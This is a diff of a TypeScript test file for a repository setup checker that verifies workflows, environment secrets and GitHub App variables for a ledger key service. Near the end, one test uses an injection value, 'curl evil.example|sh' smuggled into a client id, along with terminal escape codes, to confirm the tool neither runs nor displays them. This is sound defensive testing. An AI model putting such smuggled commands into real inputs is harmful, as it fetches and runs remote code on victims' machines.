@@ -19,6 +19,7 @@ const CHECK = ['--check', '--repository', COMPANY]
 const IN_SERVICE = ['--in-service', 'ledger-production']
 const VAULT = ['--key-store', 'vault://kv/ledger']
 const PROVISION = '.github/workflows/ledger-operator-key.yml'
+const ACTIVATE = '.github/workflows/ledger-activate.yml'
 
 /** A repository as the set-up leaves it, its files merged, and admins not allowed to bypass the gate. */
 async function startReady(args: string[] = [...IN_SERVICE, '--workspace', 'minivault'], usesApp = true) {
@@ -97,6 +98,33 @@ it('a repository with a key store needs the workflow that activates only if the 
   const { github } = await startReady([...VAULT, '--vault-address', 'https://vault.octo.test:8200'], false)
   const { text } = await runSetup(github, [...CHECK, ...VAULT, '--workspace', 'w'])
   expect(text).toContain('MISSING file .github/workflows/vault-activate.yml: not on main')
+})
+
+it.each<[what: string, change: (text: string) => string, findings: string[]]>([
+  [
+    'asks for what activation needs if the workflow that activates is there',
+    text => text,
+    [
+      'MISSING secret LEDGER_KEYS_APP_PRIVATE_KEY of ledger-admins: does not exist → Run `npm run setup` with --app-client-id ID --app-private-key FILE --in-service ledger-production --workspace NAME.',
+      expect.stringMatching(/^later /),
+    ],
+  ],
+  [
+    'does not ask for it if that workflow names no place',
+    text => text.replace('destination-environment: ledger-production', 'destination-environment: $X'),
+    [],
+  ],
+  [
+    'does not ask for it if that workflow names an environment with another purpose',
+    text => text.replace('destination-environment: ledger-production', 'destination-environment: ledger-tokens'),
+    [],
+  ],
+])('a check without --in-service %s', async (_, change, expected) => {
+  const { github, app } = await startReady()
+  const { files } = github.state.repository(COMPANY)
+  files.set(ACTIVATE, change(files.get(ACTIVATE) ?? ''))
+  github.deleteSecret({ ...HERE, environment: 'ledger-admins' }, 'LEDGER_KEYS_APP_PRIVATE_KEY')
+  expect(findings((await runSetup(github, [...CHECK, ...app])).output)).toEqual(expected)
 })
 
 it('an App whose client id is a variable of the environment is found', async () => {
@@ -375,7 +403,7 @@ it.each(['Iv1.abc;curl evil.example|sh #', 'x\n\x1b[2K\x1b[1Aok              env
     const { code, output, text } = await runSetup(github, CHECK)
     expect(code).toBe(1)
     expect(text).toContain('MISSING variable LEDGER_KEYS_APP_CLIENT_ID: is "')
-    expect(text).toContain('Run `npm run setup` with --app-client-id ID --app-private-key FILE.')
+    expect(text).toContain('Run `npm run setup` with --app-client-id ID --app-private-key FILE --in-service')
     expect(text.split('evil')).toHaveLength(2)
     expect(output).not.toMatch(/[^\P{C}\n]/u)
     expect(output).not.toContain('\nok              environment evil: fine')
